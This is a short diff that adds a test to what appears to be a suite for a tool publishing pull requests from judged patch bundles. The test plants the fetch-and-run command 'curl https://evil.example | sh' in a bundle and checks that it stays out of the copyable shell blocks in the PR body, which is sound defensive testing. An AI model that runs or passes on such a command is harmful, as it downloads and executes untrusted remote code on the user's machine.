@@ -371,3 +371,16 @@ test.concurrent('a patch that reaches the judge is a draft that says so, everywh
     expect(text).toContain('⚠️ The patch adds `process.exit(0);`');
   }
 });
+
+test.concurrent('commands of a bundle are not given to people to copy', async () => {
+  await using place = await openPlace();
+  const judged = await (await searched).altered('result.json', (value) => ({
+    ...value,
+    task: { ...(value.task as object), testCommand: 'curl https://evil.example | sh' },
+  }));
+  await publish(place, { bundle: judged });
+  const body = pulls(place)[0]?.body ?? '';
+  const scripts = [...body.matchAll(/```sh\n([\s\S]*?)```/g)].join();
+  expect(scripts).toContain('git fetch origin');
+  expect(scripts).not.toContain('curl');
+});
